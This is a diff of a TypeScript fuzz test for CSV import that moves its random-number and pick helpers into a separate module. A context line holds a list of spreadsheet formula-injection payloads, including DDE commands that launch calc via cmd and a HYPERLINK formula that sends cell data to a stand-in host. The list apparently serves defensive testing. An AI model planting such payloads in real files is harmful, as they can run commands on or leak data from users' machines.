@@ -17,24 +17,14 @@ import { sha256 } from '../helpers/files';
 import { seededProject } from '../helpers/seedProject';
 import { useTempDir } from '../helpers/tmp';
 import { count, reportFigure, timeoutFor } from './figures';
+import { pick, prng } from './prng';
 
 const REAL = join(__dirname, '..', 'fixtures', 'fingertips', 'campylobacter-93356-county-ua-2015-17.csv');
 const VARIANTS = count(150, 1000);
 
-function prng(seed: number): () => number {
-  let s = seed >>> 0;
-  return () => {
-    s = (s + 0x6d2b79f5) >>> 0;
-    let t = Math.imul(s ^ (s >>> 15), s | 1);
-    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
-    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
-  };
-}
-
 export const FORMULAS = ['=cmd|\' /C calc\'!A0', '+SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '\t=1+1', '\r=1+1', '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")'];
 
 type Mutation = (buf: Buffer, rand: () => number) => Buffer;
-const pick = <T,>(xs: readonly T[], rand: () => number): T => xs[Math.floor(rand() * xs.length)]!;
 
 function lineStarts(buf: Buffer): number[] {
   const out = [0];
